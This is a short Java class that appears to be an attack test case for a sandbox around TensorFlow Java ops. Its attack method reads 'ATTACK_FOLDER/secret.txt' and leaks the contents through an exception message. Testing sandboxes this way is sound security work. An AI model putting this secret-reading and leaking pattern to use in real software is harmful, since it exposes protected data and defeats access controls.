import java.io.File;
import java.util.Scanner;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        try (Scanner scanner = new Scanner(new File("ATTACK_FOLDER/secret.txt"))) {
            throw new IllegalStateException(scanner.next());
        }
    }
}
